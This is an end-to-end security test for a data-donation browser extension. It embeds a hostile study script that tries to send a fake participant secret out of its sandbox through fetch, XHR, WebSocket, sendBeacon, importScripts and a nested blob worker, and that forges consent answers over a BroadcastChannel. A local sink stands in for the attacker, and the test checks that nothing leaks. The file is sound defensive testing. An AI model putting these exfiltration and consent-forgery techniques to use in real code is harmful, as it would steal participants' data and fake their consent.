// A hostile study script, pushed as a study link, tries every channel out of the sandbox it runs
// in: the network (fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, pyodide's open_url,
// importScripts, a nested blob: worker), the extension's APIs and storage, windows, answering its
// own consent form through the views' BroadcastChannel, and donating data no page ever showed.
// A loopback sink stands in for the attacker's server and counts what reaches it.
//
// Build first (`port build`), then `node --test tests/e2e/`. Helpers: ./support.mjs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { createServer } from 'node:http';

import {
  addStudyLink, demoDonateAndFinish, demoToConsent, generateDdp, launch, openUi, sessionId, setBridge, sleep,
  startDevHost, startStaticServer, studyConfig, tempDir, waitForState,
} from './support.mjs';

const HOSTILE_SCRIPT = `
import json

import js
from pyodide.ffi import create_proxy, to_js
from port.api.props import PropsUIPromptConfirm, PropsUIPromptText, Translatable
from port.helpers import port_helpers as ph

SINK = "__SINK__"
SECRET = "participant-secret-12345"


def t(text):
    return Translatable({"en": text, "nl": text})


def js_object(value):
    return to_js(value, dict_converter=js.Object.fromEntries)


def attempt(name, action, outcomes):
    try:
        action()
        outcomes.append(f"{name}: ran")
    except BaseException as error:  # noqa: BLE001 - every failure is an outcome to report
        outcomes.append(f"{name}: blocked ({type(error).__name__})")


def xhr():
    request = js.XMLHttpRequest.new()
    request.open("POST", f"{SINK}/xhr", False)
    request.send(SECRET)


def open_url():
    from pyodide.http import open_url as pyodide_open_url
    return pyodide_open_url(f"{SINK}/open-url")


def nested_worker():
    code = f"fetch('{SINK}/nested-worker', {{method: 'POST', mode: 'no-cors', body: '{SECRET}'}});"
    blob = js.Blob.new(to_js([code]), js_object({"type": "text/javascript"}))
    return js.Worker.new(js.URL.createObjectURL(blob))


def forge_answers():
    # While the page waits for the participant, Python is paused but the worker's timers still run:
    # answer every page number, again and again, as if from a view.
    channel = js.BroadcastChannel.new("port-session")
    value = json.dumps([{"stolen": [{"secret": SECRET}], "deleted row count": "0"}])

    def forge():
        for page_seq in range(0, 40):
            channel.postMessage(js_object({"type": "answer", "page_seq": page_seq, "payload": {"__type__": "PayloadTrue", "value": True}}))
            channel.postMessage(js_object({"type": "answer", "page_seq": page_seq, "payload": {"__type__": "PayloadJSON", "value": value}}))

    js.setInterval(create_proxy(forge), 200)


def process(session_id, platform=None):
    outcomes = []
    attempt("fetch", lambda: js.fetch(f"{SINK}/fetch", js_object({"method": "POST", "mode": "no-cors", "body": SECRET})), outcomes)
    attempt("xhr", xhr, outcomes)
    attempt("websocket", lambda: js.WebSocket.new(SINK.replace("http:", "ws:") + "/ws"), outcomes)
    attempt("eventsource", lambda: js.EventSource.new(f"{SINK}/event-source"), outcomes)
    attempt("beacon", lambda: js.navigator.sendBeacon(f"{SINK}/beacon", SECRET), outcomes)
    attempt("open_url", open_url, outcomes)
    attempt("importScripts", lambda: js.importScripts(f"{SINK}/import.js"), outcomes)
    attempt("nested worker", nested_worker, outcomes)
    attempt("chrome", lambda: js.chrome.runtime.sendMessage(js_object({"target": "background", "type": "list-studies"})), outcomes)
    attempt("window.open", lambda: js.open(f"{SINK}/window"), outcomes)
    attempt("forged answers", forge_answers, outcomes)
    _ = yield ph.render_page(t("Hostile outcomes"), [
        PropsUIPromptText(t("; ".join(outcomes))),
        PropsUIPromptConfirm(t("Go on?"), t("Next"), t("Stop")),
    ])
    result = yield ph.donate(f"{session_id}-stolen", json.dumps({"secret": SECRET}))
    value = getattr(result, "value", None)
    text = "stolen donation answered %s success=%s status=%s" % (
        getattr(result, "__type__", None), getattr(value, "success", None), getattr(value, "status", None))
    _ = yield ph.render_page(t("Hostile done"), [PropsUIPromptConfirm(t(text), t("Finish"), t("Close"))])
`;

/// A loopback server that counts every request, WebSocket upgrade and CONNECT that reaches it.
async function startSink() {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok');
  });
  server.on('upgrade', (request, socket) => { hits.push(`UPGRADE ${request.url}`); socket.destroy(); });
  server.on('connect', (request, socket) => { hits.push(`CONNECT ${request.url}`); socket.destroy(); });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    hits,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

test('hostile: a study script cannot leak past the sandbox or donate unseen data without a click', { timeout: 180_000 }, async () => {
  const sink = await startSink();
  const host = await startDevHost();
  const server = await startStaticServer();
  const browser = await launch();
  const scratch = tempDir('hostile');
  try {
    await setBridge(browser.context, host.url);
    const script = HOSTILE_SCRIPT.replace('__SINK__', sink.url);
    server.routes['/hostile.json'] = {
      body: JSON.stringify(studyConfig({ id: 'hostile', title: { translations: { en: 'Hostile study', nl: 'Vijandige studie' } }, script: { source: script }, donate: { mode: 'http', url: `${host.url}/donate` } })),
    };
    const { page, errors } = await openUi(browser.context);
    await addStudyLink(page, `${server.url}/hostile.json`);
    await page.getByText('The study hostile was added.').waitFor({ timeout: 30_000 });
    await page.getByRole('button', { name: 'Start the study Hostile study' }).click();

    await page.getByRole('heading', { name: 'Hostile outcomes' }).waitFor({ timeout: 60_000 });
    const outcomes = await page.locator('main .prompt').first().innerText();
    assert.match(outcomes, /chrome: blocked/, outcomes);
    assert.match(outcomes, /window\.open: blocked/, outcomes);
    // The forged answers go to the sandbox's own, partitioned channel: the page still waits. The
    // requests, had any left, have had time to arrive.
    await sleep(2_000);
    assert.equal(await page.getByRole('heading', { name: 'Hostile outcomes' }).count(), 1, 'no forged answer moved the flow');
    assert.deepEqual(sink.hits, [], `requests reached the attacker's sink; the script saw: ${outcomes}`);
    await page.getByRole('button', { name: 'Next' }).click();

    // The donation of data no page showed goes to the participant first.
    await page.getByRole('heading', { name: 'A question from the extension, not from the study' }).waitFor({ timeout: 30_000 });
    await page.getByRole('note').getByText('This page is from the port extension, not from the study.').waitFor();
    assert.match(await page.locator('main').innerText(), /participant-secret-12345/, 'the review shows what the study wants to send');
    assert.deepEqual(await host.donations(), [], 'nothing reached the host without a click');
    await page.getByRole('button', { name: "Don't send" }).click();
    await page.getByText(/stolen donation answered PayloadResponse success=False status=403/).waitFor({ timeout: 30_000 });
    await page.getByRole('button', { name: 'Finish' }).click();
    await waitForState(page, (state) => state.status.state === 'finished', 30_000);
    assert.deepEqual(await host.donations(), [], 'a declined review sends nothing');
    await page.getByRole('region', { name: 'What this study sent' }).waitFor();
    assert.equal(await page.locator('[data-sent-donation]').count(), 0, 'the finished screen lists no donation');
    assert.deepEqual(sink.hits, [], `requests reached the attacker's sink; outcomes: ${outcomes}`);
    assert.deepEqual(errors, []);

    // The extension is unharmed: the demo study runs as before.
    const list = page.getByRole('region', { name: 'Studies on this device' });
    await list.getByRole('button', { name: 'Start the study Demo study' }).click({ timeout: 30_000 });
    await demoToConsent(page, generateDdp(scratch));
    const session = await sessionId(page);
    await demoDonateAndFinish(page);
    await host.waitFor(session, `${session}-demo`);
    // Everything that left is listed for the participant.
    await page.locator(`[data-sent-donation="${session}-demo"]`).waitFor({ timeout: 30_000 });
    assert.deepEqual(sink.hits, []);
  } finally {
    await browser.close();
    await server.close();
    await host.close();
    await sink.close();
    rmSync(scratch, { recursive: true, force: true });
  }
});
